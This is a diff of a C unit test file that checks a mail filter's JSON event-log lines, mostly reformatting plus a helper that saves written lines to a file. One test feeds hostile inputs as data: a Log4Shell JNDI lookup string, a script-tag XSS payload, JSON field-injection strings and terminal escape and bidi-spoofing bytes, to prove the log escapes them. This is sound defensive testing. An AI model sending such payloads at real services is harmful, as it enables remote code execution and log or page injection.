@@ -1,7 +1,7 @@
 /*
- * Event lines: each one is read back by jansson, so nothing here depends on the order or spelling of the writer. What must
- * hold for any input: one line, at most MR_LINE_MAX bytes, no control byte, valid JSON, no member that the event did not
- * have. Values in the random cases come from a fixed seed.
+ * Event lines: each one is read back by jansson, so nothing here depends on the order or spelling of the writer. What
+ * must hold for any input: one line, at most MR_LINE_MAX bytes, no control byte, valid JSON, no member that the event
+ * did not have. Values in the random cases come from a fixed seed.
  */
 #include "eventlog/line.h"
 
@@ -54,6 +54,19 @@ static json_t *check_form(size_t n)
 	return root;
 }
 
+/* For tests/scenario/event_schema.py: the lines of this program, but for most of the random ones. */
+static void keep_line(size_t n)
+{
+	static unsigned count;
+	const char *path = getenv("MR_KEEP_LINES");
+	FILE *file = path == NULL || (++count > 300 && count % 100 != 0) ? NULL : fopen(path, "ae");
+
+	if (file == NULL)
+		return;
+	REQUIRE(fwrite(line, 1, n, file) == n, "%s", path);
+	fclose(file);
+}
+
 static json_t *written(const struct mr_event *event, const struct mr_log_policy *log)
 {
 	memset(line, '#', sizeof(line));
@@ -61,6 +74,7 @@ static json_t *written(const struct mr_event *event, const struct mr_log_policy 
 
 	REQUIRE(line[MR_LINE_MAX] == '#', "written behind the end");
 	json_t *root = check_form(n);
+	keep_line(n);
 	line[n] = '\0';
 	return root;
 }
@@ -91,7 +105,7 @@ static void check_text(const json_t *root, const char *path, const char *expecte
 	}
 	REQUIRE(json_is_string(value), "%s is no string", path);
 	REQUIRE(strcmp(json_string_value(value), expected) == 0, "%s is \"%s\", not \"%s\"", path,
-		      json_string_value(value), expected);
+		json_string_value(value), expected);
 }
 
 static void check_int(const json_t *root, const char *path, json_int_t expected)
@@ -280,8 +294,8 @@ START_TEST(a_refused_message_has_every_field)
 	json_t *root = written(&event, NULL);
 
 	check_text(root, "message",
-		   "reject: mail from <alice@example.com> by login bob@example.com from 192.0.2.7 to 3 recipients, 1 of them "
-		   "refused: the login may not use this envelope sender (sender)");
+		   "reject: mail from <alice@example.com> by login bob@example.com from 192.0.2.7 to 3 recipients, "
+		   "1 of them refused: the login may not use this envelope sender (sender)");
 	check_event_fields(root);
 	check_peer_fields(root);
 	check_mail_fields(root);
@@ -425,7 +439,8 @@ START_TEST(a_replayed_fact_keeps_its_id)
 {
 	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
 	static const struct mr_observer nobody = { .version = MR_STR("0.1.0") };
-	static const char *const no_numbers[] = { "", "-", "01", "1.", ".5", "1e", "1e+", "0x1", "1 ", "1,\"x\":1", "1\n" };
+	static const char *const no_numbers[] = { "",    "-",   "01", "1.",        ".5", "1e",
+						  "1e+", "0x1", "1 ", "1,\"x\":1", "1\n" };
 
 	event.fact_id = MR_STR("-12.5e+3");
 	event.fact_id_is_number = true;
@@ -475,7 +490,7 @@ START_TEST(a_name_that_says_nothing_is_left_out)
 }
 END_TEST
 
-/* What a string becomes when it was escaped and read back: bytes that are not UTF-8 as the characters of their value. */
+/* What a string is when it was escaped and read back: a byte that is not UTF-8 is the character of its value. */
 static size_t expected_text(struct mr_str s, char *text_r)
 {
 	size_t to = 0;
@@ -505,18 +520,37 @@ static void check_bytes(const json_t *root, const char *path, struct mr_str s)
 	size_t n = expected_text(s, expected);
 	REQUIRE(json_is_string(value), "%s", path);
 	REQUIRE(json_string_length(value) == n && memcmp(json_string_value(value), expected, n) == 0, "%s: %s", path,
-		      line);
+		line);
 }
 
 START_TEST(nasty_values_come_back_whole)
 {
 	static const struct mr_str nasty[] = {
-		MR_STR("a\r\nb"), MR_STR("\r"), MR_STR("\n{\"mailreeve\":{\"verdict\":\"accept\"}}\n"), MR_STR("a\0b"),
-		MR_STR("\x1b[2J\x1b]0;x\x07"), MR_STR("\xe2\x80\xa8x\xe2\x80\xa9"), MR_STR("\xe2\x80\xae""cod.exe"),
-		MR_STR("\""), MR_STR("\\"), MR_STR("\\u0022,\"x\":1"), MR_STR("</script><script>alert(1)</script>"),
-		MR_STR("${jndi:ldap://192.0.2.1/a}"), MR_STR("\xff\xfe"), MR_STR("\xc3"), MR_STR("\xed\xa0\x80\xed\xb0\x80"),
-		MR_STR("\xc0\x80"), MR_STR("\xf4\x90\x80\x80"), MR_STR("\xc2\x9b""31m"), MR_STR("\xf0\x9f\x93\xa7"),
-		MR_STR("\",\"verdict\":\"accept\",\"x\":\""), MR_STR("\xef\xbb\xbf"), MR_STR("\xe2\x81\xa6x\xe2\x81\xa9"), MR_STR("\x7f"),
+		MR_STR("a\r\nb"),
+		MR_STR("\r"),
+		MR_STR("\n{\"mailreeve\":{\"verdict\":\"accept\"}}\n"),
+		MR_STR("a\0b"),
+		MR_STR("\x1b[2J\x1b]0;x\x07"),
+		MR_STR("\xe2\x80\xa8x\xe2\x80\xa9"),
+		MR_STR("\xe2\x80\xae"
+		       "cod.exe"),
+		MR_STR("\""),
+		MR_STR("\\"),
+		MR_STR("\\u0022,\"x\":1"),
+		MR_STR("</script><script>alert(1)</script>"),
+		MR_STR("${jndi:ldap://192.0.2.1/a}"),
+		MR_STR("\xff\xfe"),
+		MR_STR("\xc3"),
+		MR_STR("\xed\xa0\x80\xed\xb0\x80"),
+		MR_STR("\xc0\x80"),
+		MR_STR("\xf4\x90\x80\x80"),
+		MR_STR("\xc2\x9b"
+		       "31m"),
+		MR_STR("\xf0\x9f\x93\xa7"),
+		MR_STR("\",\"verdict\":\"accept\",\"x\":\""),
+		MR_STR("\xef\xbb\xbf"),
+		MR_STR("\xe2\x81\xa6x\xe2\x81\xa9"),
+		MR_STR("\x7f"),
 	};
 
 	for (size_t i = 0; i < sizeof(nasty) / sizeof(nasty[0]); i++) {
@@ -550,9 +584,11 @@ START_TEST(a_sentence_cannot_be_forged)
 	event.decision.verdict = MR_REJECT;
 	event.decision.reason = MR_REASON_RELAY_DENIED;
 	json_t *root = written(&event, NULL);
-	check_text(root, "message",
-		   "reject: mail from <x? from 127.0.0.1: fine (relay) ?y@example.com> by login <root from 127.0.0.1: fine>: the "
-		   "recipient is not ours, and the client has neither a login nor a network that may relay (relay)");
+	check_text(
+		root, "message",
+		"reject: mail from <x? from 127.0.0.1: fine (relay) ?y@example.com> by login <root from "
+		"127.0.0.1: fine>: the recipient is not ours, and the client has neither a login nor a network that "
+		   "may relay (relay)");
 	json_decref(root);
 }
 END_TEST
@@ -612,8 +648,12 @@ static void fill(struct mr_event *event, struct mr_connection *connection, struc
 	connection->client_name = connection->country = connection->listener = connection->helo = value;
 	connection->server_name = connection->tls_version = connection->tls_cipher = value;
 	connection->asn = INT64_MAX;
-	*rcpt = (struct mr_rcpt_summary){ .count = UINT64_MAX, .accepted = UINT64_MAX, .refused = UINT64_MAX,
-		.rejected_by_mta = UINT64_MAX, .to_count = MR_EVENT_RCPT_MAX, .refused_count = MR_EVENT_RCPT_MAX };
+	*rcpt = (struct mr_rcpt_summary){ .count = UINT64_MAX,
+					  .accepted = UINT64_MAX,
+					  .refused = UINT64_MAX,
+					  .rejected_by_mta = UINT64_MAX,
+					  .to_count = MR_EVENT_RCPT_MAX,
+					  .refused_count = MR_EVENT_RCPT_MAX };
 	for (size_t i = 0; i < MR_EVENT_RCPT_MAX; i++)
 		rcpt->to[i] = rcpt->refused_paths[i] = header_from[i] = value;
 	*trail = (struct mr_trail){ .count = MR_TRAIL_MAX };
@@ -637,8 +677,10 @@ static void fill(struct mr_event *event, struct mr_connection *connection, struc
 
 START_TEST(the_longest_event_still_fits)
 {
-	static const struct mr_str units[] = { MR_STR("a"), MR_STR("\0"), MR_STR("\xff"), MR_STR("\xf0\x9f\x93\xa7"),
-		MR_STR("\""), MR_STR("<\xe2\x80\xa8@"), MR_STR("@") };
+	static const struct mr_str units[] = { MR_STR("a"),    MR_STR("\0"),
+					       MR_STR("\xff"), MR_STR("\xf0\x9f\x93\xa7"),
+					       MR_STR("\""),   MR_STR("<\xe2\x80\xa8@"),
+					       MR_STR("@") };
 	static char value[LONG_VALUE];
 	struct mr_log_policy hashed = { .hash_addresses = true };
 	struct mr_str header_from[MR_EVENT_RCPT_MAX];
@@ -721,8 +763,12 @@ START_TEST(hashing_hides_local_parts)
 	struct mr_log_policy log = { .hash_addresses = true, .address_key = { 1, 2, 3 } };
 	struct mr_connection connection = sample_connection();
 	struct mr_str header_from[] = { MR_STR("Private.Person@Example.com") };
-	struct mr_rcpt_summary rcpt = { .count = 1, .refused = 1, .to_count = 1, .refused_count = 1,
-		.to = { MR_STR("private.person@example.com") }, .refused_paths = { MR_STR("<PRIVATE.person@example.com>") } };
+	struct mr_rcpt_summary rcpt = { .count = 1,
+					.refused = 1,
+					.to_count = 1,
+					.refused_count = 1,
+					.to = { MR_STR("private.person@example.com") },
+					.refused_paths = { MR_STR("<PRIVATE.person@example.com>") } };
 	struct mr_event event = sample_event(&connection, &rcpt);
 
 	event.login = MR_STR("bob");
@@ -757,8 +803,8 @@ END_TEST
 START_TEST(hashing_shows_no_domain_that_is_none)
 {
 	struct mr_log_policy log = { .hash_addresses = true };
-	static const char *const secrets[] = { "secret", "\"a@secret\"", "secret%example.com", "host!secret",
-		"<\"a@secret \">", "x@secret part" };
+	static const char *const secrets[] = { "secret",      "\"a@secret\"",    "secret%example.com",
+					       "host!secret", "<\"a@secret \">", "x@secret part" };
 
 	for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++) {
 		struct mr_event event = { .action = MR_EVENT_REFUSED, .decided = true, .size = -1, .duration_ns = -1 };
